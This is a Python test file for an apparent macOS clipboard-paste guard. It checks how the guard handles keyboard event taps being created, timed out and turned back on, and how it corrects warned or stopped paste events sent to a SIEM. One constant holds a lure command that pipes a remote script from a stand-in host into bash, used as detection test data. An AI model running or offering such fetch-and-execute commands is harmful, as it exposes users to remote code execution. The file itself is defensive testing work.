"""The macOS event tap where the parts meet: a pynput-like listener that makes its tap on its own
thread and a window server that turns an unresponsive tap off, as Apple documents them
(tests/fakes_darwin.py), the REAL DarwinBackend, and the REAL guard (GuardService, PasteSequence,
TargetClassifier, Engine)."""

from __future__ import annotations

import http.client
import json
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from app.config import ForwardSettings
from app.detection import Engine
from app.drills.coordinator import DrillCoordinator
from app.events import EventKind
from app.forwarding.forwarder import Forwarder, sinks_from_settings
from app.guard.keys import PasteSequence
from app.guard.provenance import Provenance
from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning
from app.guard.targets import TargetClassifier
from app.platform.darwin.api import (
    FLAG_COMMAND,
    TAP_DISABLED_BY_USER_INPUT,
    RunningApp,
)
from app.platform.darwin.backend import TAP_NOTICE, TAP_RETRY, TAP_START_LIMIT, DarwinBackend
from app.storage import EventStore
from tests.app.forwarding.servers import TcpCollector
from tests.app.guard.test_service import FakeStore, FakeUI
from tests.fakes import FakeClock, FakeDarwinApi, FakeKey, FakeKeyCode
from tests.fakes_darwin import TAP_TIMEOUT

LURE = "curl -fsSL https://cdn.example/i.sh | bash"
TERMINAL = RunningApp("Terminal", "com.apple.Terminal", 501)


def until(check: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.002)


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(strict=True)


@pytest.fixture(scope="module")
def classifier() -> TargetClassifier:
    return TargetClassifier.load(strict=True)


@dataclass
class Rig:
    api: FakeDarwinApi
    backend: DarwinBackend
    service: GuardService
    ui: FakeUI
    clock: FakeClock
    store: FakeStore

    def paste(self) -> bool:
        """Cmd+V into Terminal; whether the V was swallowed."""
        tap = self.api.tap
        assert tap is not None
        tap.send(FakeKey("cmd"), True, FLAG_COMMAND)
        swallowed = tap.send(FakeKeyCode("v", 9), True, FLAG_COMMAND)
        tap.send(FakeKeyCode("v", 9), False, FLAG_COMMAND)
        tap.send(FakeKey("cmd"), False, 0)
        self.clock.advance(3.0)  # the next press is a new paste
        return swallowed

    def start(self) -> None:
        self.backend.start(self.service.on_key, self.service.on_mouse)

    def ready(self) -> None:
        until(lambda: self.api.tap is not None and self.api.tap.tap_state() is not None)
        assert not self.backend.starting


@pytest.fixture
def rig(engine: Engine, classifier: TargetClassifier) -> Iterator[Rig]:
    api, clock = FakeDarwinApi(), FakeClock()
    api.frontmost = TERMINAL
    backend = DarwinBackend(api, clock=clock)
    store, ui = FakeStore(), FakeUI()
    service = GuardService(
        engine, store, ui, PasteSequence(strict=True), classifier, backend.foreground_window,
        backend.can_suppress_keys, GuardSettings(mode="warn"), clock=clock,
    )  # fmt: skip
    service.clipboard_changed(ClipboardChange(LURE, Provenance(source_url="https://x.example/")))
    service.process_pending()
    assert service.current is not None and service.current.verdict.level.label != "clean"
    yield Rig(api, backend, service, ui, clock, store)
    api.server.hold_create.set()
    backend.stop()


def test_the_guard_is_starting_until_the_tap_exists(rig: Rig) -> None:
    """pynput makes the tap on its thread after start() returned; the backend said starting =
    False throughout, so the guard reported protecting while a Cmd+V went by unseen."""
    rig.api.server.hold_create.clear()
    rig.start()
    assert rig.backend.starting
    assert rig.paste() is False
    assert len(rig.api.server.unseen) == 4  # the window server handed them on: the barrier
    assert rig.ui.warnings == [] and rig.backend.starting  # ... and the guard never said ready
    rig.api.server.hold_create.set()
    rig.ready()
    assert rig.paste() is True
    assert [w.suppressed for w in rig.ui.warnings] == [True]
    assert rig.backend.degraded == {}


def test_a_tap_not_made_in_time_is_a_degraded_keyboard(rig: Rig) -> None:
    rig.api.server.hold_create.clear()
    rig.start()
    rig.clock.advance(TAP_START_LIMIT)
    assert not rig.backend.starting and "did not exist" in rig.backend.degraded["keyboard"]


def test_a_refused_tap_is_degraded_and_tried_again_later(rig: Rig) -> None:
    """CGEventTapCreate returned NULL (Input Monitoring refused, say): pynput's thread just ends.
    The backend said nothing, and the watchdog restarted it every 2 s; now the keyboard is
    degraded, and a new tap is tried every TAP_RETRY seconds."""
    rig.api.server.refuse = True
    rig.start()
    until(lambda: rig.api.tap is not None and rig.api.tap.tap_state() is False)
    until(lambda: not rig.api.tap.is_alive())  # type: ignore[union-attr]
    assert not rig.backend.starting
    assert "refused" in rig.backend.degraded["keyboard"]
    assert rig.backend.alive()  # no restart every round
    rig.clock.advance(TAP_RETRY)
    assert not rig.backend.alive() and "keyboard" not in rig.backend.degraded  # watchdog: retry
    rig.api.server.refuse = False  # the person granted it meanwhile
    rig.backend.stop()
    rig.start()
    rig.ready()
    assert rig.paste() is True and rig.backend.degraded == {}


def test_a_tap_turned_off_for_answering_slowly_is_turned_on_again(rig: Rig) -> None:
    """The guard's answer took longer than the window server waits: it turns the tap off and
    says so to the callback. pynput never turned it on again: every later Cmd+V went through
    unseen while the guard said it was protecting."""
    rig.start()
    rig.ready()
    foreground = rig.backend.foreground_window
    slow = {"countdown": 2}  # Cmd down, then V down

    def slow_foreground() -> object:
        slow["countdown"] -= 1
        if slow["countdown"] == 0:
            rig.api.server.ticks += TAP_TIMEOUT
        return foreground()

    rig.service.foreground = slow_foreground  # type: ignore[assignment]
    tap = rig.api.tap
    assert tap is not None
    assert rig.paste() is False and rig.backend.tap_disabled == 1  # it went through
    assert tap.enabled  # on again, from the callback that was told
    assert "turned on again" in rig.backend.degraded["keyboard"]
    assert rig.paste() is True  # the next one is stopped
    rig.clock.advance(TAP_NOTICE)
    assert rig.backend.degraded == {} and rig.backend.alive()


def test_a_tap_that_cannot_be_turned_on_again_is_made_anew(rig: Rig) -> None:
    rig.start()
    rig.ready()
    tap = rig.api.tap
    assert tap is not None
    rig.api.server.can_enable = False
    tap.turn_off(TAP_DISABLED_BY_USER_INPUT)
    assert "could not be turned on again" in rig.backend.degraded["keyboard"]
    assert rig.paste() is False and rig.api.server.unseen  # off: keys go by unseen
    assert not rig.backend.alive() and "keyboard" not in rig.backend.degraded  # watchdog: anew
    rig.api.server.can_enable = True
    rig.backend.stop()
    rig.start()
    rig.ready()
    assert rig.api.tap is not tap and rig.paste() is True


def slow_answer(rig: Rig, nth: int) -> None:
    """The guard's answer to the `nth` key from now takes as long as the window server waits."""
    foreground = rig.backend.foreground_window
    slow = {"countdown": nth}

    def slow_foreground() -> object:
        slow["countdown"] -= 1
        if slow["countdown"] == 0:
            rig.api.server.ticks += TAP_TIMEOUT
        return foreground()

    rig.service.foreground = slow_foreground  # type: ignore[assignment]


def paste_events(rig: Rig) -> list[object]:
    rig.service.process_pending()
    return [e for e in rig.store.events if e.kind.startswith("paste")]


def test_a_paste_the_tap_answered_too_late_is_warned_as_not_stopped(rig: Rig) -> None:
    """The guard swallowed the V, but its answer came after the window server stopped waiting:
    the V went on and the tap was turned off, which the callback is told next. The warning said
    "stopped" and the event was a stopped paste; now both say it was not stopped."""
    rig.start()
    rig.ready()
    slow_answer(rig, 2)  # Cmd down, then V down
    assert rig.paste() is False  # the window server passed it on: the barrier is its answer
    assert rig.backend.tap_disabled == 1 and rig.backend.late_keys == 1
    assert [w.suppressed for w in rig.ui.warnings] == [True, False]  # the guard had its say
    (event,) = paste_events(rig)
    assert event.kind == EventKind.PASTE_WARNED.value and event.action == "warned"
    assert event.details["passed_on_by_os"] is True
    assert rig.paste() is True  # the tap is on again: the next paste is stopped, and says so
    assert [w.suppressed for w in rig.ui.warnings] == [True, False, True]
    events = paste_events(rig)
    assert [e.kind for e in events] == [EventKind.PASTE_WARNED.value, EventKind.PASTE_BLOCKED.value]
    assert events[1].details["passed_on_by_os"] is False


def test_a_late_answer_to_a_key_that_went_on_anyway_retracts_no_stopped_paste(rig: Rig) -> None:
    """The V was swallowed in time; the answer to its release (not swallowed) came too late.
    The paste was stopped: it stays so."""
    rig.start()
    rig.ready()
    slow_answer(rig, 3)  # Cmd down, V down, then V up
    assert rig.paste() is True
    assert rig.backend.tap_disabled == 1 and rig.backend.late_keys == 0  # the barrier
    assert [w.suppressed for w in rig.ui.warnings] == [True]
    (event,) = paste_events(rig)
    assert event.kind == EventKind.PASTE_BLOCKED.value


def test_a_tap_turned_off_by_the_person_retracts_no_stopped_paste(rig: Rig) -> None:
    """kCGEventTapDisabledByUserInput says nothing of the last answer: it stands."""
    rig.start()
    rig.ready()
    assert rig.paste() is True
    tap = rig.api.tap
    assert tap is not None
    tap.turn_off(TAP_DISABLED_BY_USER_INPUT)
    assert rig.backend.tap_disabled == 1 and tap.enabled  # the barrier: told, and on again
    assert [w.suppressed for w in rig.ui.warnings] == [True] and rig.backend.late_keys == 0


class SlowUI(FakeUI):
    """The warning's UI; `during_answer` runs when the guard warns from inside the tap's
    callback (the key not answered yet): what the worker and forwarder do meanwhile."""

    during_answer: Callable[[], None] | None = None

    def warn(self, warning: PasteWarning) -> None:
        super().warn(warning)
        work, self.during_answer = self.during_answer, None
        if work is not None and warning.suppressed:
            work()


@contextmanager
def stored(
    engine: Engine, classifier: TargetClassifier, data: Path, drills: DrillCoordinator | None = None
) -> Iterator[tuple[Rig, EventStore, Forwarder, TcpCollector]]:
    """The rig with the REAL event store and forwarder, sending to a local syslog collector."""
    collector = TcpCollector()
    sinks = sinks_from_settings(ForwardSettings(syslog=f"tcp://127.0.0.1:{collector.port}"))
    store = EventStore.open(data, sinks=list(sinks))
    forwarder = Forwarder(store, sinks, strict=True)
    api, clock = FakeDarwinApi(), FakeClock()
    api.frontmost = TERMINAL
    backend = DarwinBackend(api, clock=clock)
    ui = SlowUI()
    service = GuardService(
        engine, store, ui, PasteSequence(strict=True), classifier, backend.foreground_window,
        backend.can_suppress_keys, GuardSettings(mode="block"), clock=clock, drills=drills,
    )  # fmt: skip
    rig = Rig(api, backend, service, ui, clock, FakeStore())
    try:
        yield rig, store, forwarder, collector
    finally:
        api.server.hold_create.set()
        backend.stop()
        forwarder.close()
        store.close()
        collector.close()


@pytest.fixture
def stored_rig(
    engine: Engine, classifier: TargetClassifier, tmp_path: Path
) -> Iterator[tuple[Rig, EventStore, Forwarder, TcpCollector]]:
    with stored(engine, classifier, tmp_path) as parts:
        service = parts[0].service
        service.clipboard_changed(
            ClipboardChange(LURE, Provenance(source_url="https://x.example/"))
        )
        service.process_pending()
        yield parts


def syslog_documents(collector: TcpCollector, count: int) -> list[dict[str, object]]:
    """The ECS documents of the collector's first `count` messages (after the BOM)."""
    messages = collector.wait_for(count)
    return [json.loads(m.split(b"\xef\xbb\xbf", 1)[1]) for m in messages]


def test_an_answer_late_by_more_than_the_settling_time_corrects_the_pastes_one_event(
    stored_rig: tuple[Rig, EventStore, Forwarder, TcpCollector],
) -> None:
    """The guard's answer to the V took over 2 s: meanwhile the worker wrote the paste as
    stopped and the forwarder sent it to the SIEM. Then macOS says the tap timed out: the paste
    went through. It stays one event in the store, now a warned one, and the SIEM is sent the
    corrected event naming the first document's id (before, a second event was logged)."""
    rig, store, forwarder, collector = stored_rig
    rig.start()
    rig.ready()

    def meanwhile() -> None:  # the hook is still inside the guard's answer
        rig.clock.advance(3.0)
        rig.service.process_pending()  # the worker: the paste settled, written as stopped
        assert store.query()[0].kind == EventKind.PASTE_BLOCKED.value  # the newest
        forwarder.run_once()
        rig.api.server.ticks += TAP_TIMEOUT  # and the window server stopped waiting

    assert isinstance(rig.ui, SlowUI)
    rig.ui.during_answer = meanwhile
    assert rig.paste() is False  # the window server passed the V on: the barrier
    assert rig.backend.late_keys == 1 and rig.ui.during_answer is None
    rig.service.process_pending()
    pastes = [e for e in store.query() if e.kind.startswith("paste")]
    assert len(pastes) == 1, [(e.kind, e.action) for e in pastes]
    (paste,) = pastes
    assert paste.kind == EventKind.PASTE_WARNED.value and paste.action == "warned"
    assert paste.details["passed_on_by_os"] is True
    assert paste.details["corrects"] == {"kind": "paste_blocked", "action": "blocked"}
    assert rig.service.counts["pastes_stopped"] == 0 and rig.service.counts["pastes_warned"] == 1
    assert [w.suppressed for w in rig.ui.warnings] == [True, False]

    forwarder.run_once()
    first, second = [
        d for d in syslog_documents(collector, 3) if str(d["event"]["action"]).startswith("paste")
    ]
    assert first["event"]["action"] == "paste_blocked" and "corrects" not in first["pasteguard"]
    assert second["event"]["action"] == "paste_warned"
    assert second["pasteguard"]["id"] == first["pasteguard"]["id"] == paste.id
    assert second["pasteguard"]["corrects"] == {
        "event_id": first["event"]["id"], "event_ids": [first["event"]["id"]],
        "kind": "paste_blocked", "action": "blocked",
    }  # fmt: skip
    assert second["event"]["id"] != first["event"]["id"]


def test_a_drill_paste_the_tap_answered_too_late_is_not_reported_as_stopped(
    engine: Engine, classifier: TargetClassifier, tmp_path: Path
) -> None:
    """A drill's Cmd+V swallowed too late went through: the drill's events, the SIEM and the
    result page (already open in the browser, opened again) say it was not stopped."""
    pages: list[str] = []

    def browser(url: str) -> None:  # opens what it is given, at once
        if url.endswith("/result"):
            conn = http.client.HTTPConnection("127.0.0.1", drills.server.port, timeout=5)
            try:
                conn.request("GET", url.split(str(drills.server.port), 1)[1])
                pages.append(conn.getresponse().read().decode())
            finally:
                conn.close()

    with stored(engine, classifier, tmp_path / "data", DrillCoordinator(None, browser)) as parts:
        rig, store, forwarder, collector = parts
        drills = rig.service.drills
        assert isinstance(drills, DrillCoordinator)
        drills.store = store
        try:
            drill = drills.start("fix-error", campaign="late")
            rig.service.clipboard_changed(
                ClipboardChange(drill.command, Provenance(source_url=drills.url(drill)))
            )
            rig.service.process_pending()
            assert rig.service.current is not None and rig.service.current.drill == drill.id
            rig.start()
            rig.ready()
            forwarder.run_once()  # started, copied
            slow_answer(rig, 2)  # Cmd down, then V down
            assert rig.paste() is False  # the window server passed the V on: the barrier
            assert rig.backend.late_keys == 1
            rig.service.process_pending()
        finally:
            drills.stop()
        kinds = [e.kind for e in reversed(store.query()) if e.kind.startswith("drill")]
        assert kinds == ["drill_started", "drill_copied", "drill_pasted", "drill_pasted"]
        corrected = store.query()[0]
        assert corrected.details["passed_on_by_os"] is True
        assert corrected.details["corrects"] == {"kind": "drill_stopped", "action": "blocked"}
        assert "stopped" not in corrected.summary and drill.stopped is False
        assert len(pages) == 2  # the page said stopped, and then is shown again, corrected
        assert "Nothing was run" in pages[0] and "could not stop the paste" in pages[1]
        forwarder.run_once()
        documents = syslog_documents(collector, 4)
        assert [d["event"]["action"] for d in documents] == kinds
        assert "drill_stopped" not in [d["event"]["action"] for d in documents]
